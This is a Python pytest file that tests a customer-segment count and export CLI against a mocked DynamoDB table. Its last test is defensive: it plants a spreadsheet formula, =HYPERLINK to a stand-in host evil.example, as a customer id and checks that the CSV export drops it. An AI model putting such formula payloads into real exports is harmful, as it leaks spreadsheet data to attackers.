"""``kizuna segments count|export`` against a customers table on moto."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import boto3
import pytest
from moto import mock_aws
from typer.testing import CliRunner

from kizuna.adapters.dynamodb import customer_to_item
from kizuna.domain.customer import Customer
from kizuna_tools.cli import app

pytestmark = pytest.mark.integration


@pytest.fixture
def table(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    with mock_aws():
        ddb = boto3.resource("dynamodb", region_name="us-east-1")
        t = ddb.create_table(
            TableName="customers",
            BillingMode="PAY_PER_REQUEST",
            KeySchema=[{"AttributeName": "customer_id", "KeyType": "HASH"}],
            AttributeDefinitions=[{"AttributeName": "customer_id", "AttributeType": "S"}],
        )
        for cid, rank, segment in (
            ("g1", "Gold", "At risk"),
            ("g2", "Platinum", "Can't lose"),
            ("g3", "Gold", "Champions"),
            ("b1", "Bronze", "At risk"),
        ):
            customer = Customer(customer_id=cid, rank=rank, rfm_segment=segment)
            t.put_item(Item=customer_to_item(customer))
        yield "customers"


def test_count_and_export_a_segment(table: str, tmp_path: Path) -> None:
    runner = CliRunner()
    # When the gold-at-risk segment is counted
    result = runner.invoke(app, ["segments", "count", "gold-at-risk", "--customers-table", table])
    # Then its two members are found
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == "2"
    # When it is exported
    out = tmp_path / "members.csv"
    result = runner.invoke(
        app, ["segments", "export", "gold-at-risk", "--customers-table", table, "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    with out.open() as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["customer_id"]
    assert sorted(r[0] for r in rows[1:]) == ["g1", "g2"]


def test_an_unknown_segment_fails(table: str) -> None:
    result = CliRunner().invoke(app, ["segments", "count", "nope", "--customers-table", table])
    assert result.exit_code == 1


def test_an_id_from_before_the_id_grammar_is_left_out_of_the_export(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A customer stored before the id grammar is still read; its id written as a CSV cell
    ran as a formula in the spreadsheet a marketer opened the list in."""
    import kizuna_tools.cli.segments as segments_cli

    formula = '=HYPERLINK("https://evil.example/?d="&B2,"open")'
    monkeypatch.setattr(segments_cli.Members, "of", lambda self, name: [formula, "c2"])
    out = tmp_path / "members.csv"
    result = CliRunner().invoke(
        app, ["segments", "export", "vip", "--out", str(out), "--customers-table", "t"]
    )
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8") as handle:
        assert list(csv.reader(handle)) == [["customer_id"], ["c2"]]
    assert "1 left out" in result.output
